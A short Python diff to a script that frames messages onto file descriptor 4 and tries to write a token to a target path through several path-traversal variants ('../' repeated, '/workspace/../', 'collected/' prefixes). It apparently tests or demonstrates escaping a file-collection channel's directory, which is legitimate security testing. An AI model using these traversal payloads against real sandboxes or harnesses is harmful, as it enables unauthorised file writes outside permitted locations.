@@ -12,9 +12,8 @@ def frame(obj, fd=4):
     data = json.dumps(obj).encode() if not isinstance(obj, bytes) else obj
     os.write(fd, struct.pack('>I', len(data)) + data)
 
-import base64
-
-data = base64.b64encode(TOKEN.encode()).decode()
+data = TOKEN.encode()
 depth = '../' * 12
 for path in (OUT, depth + OUT.lstrip('/'), '/workspace/../' + OUT.lstrip('/'), 'collected/' + depth + OUT.lstrip('/')):
-    frame({'t': 'file', 'path': path, 'data': data})
+    frame({'t': 'file', 'path': path, 'size': len(data)})
+    os.write(4, data)
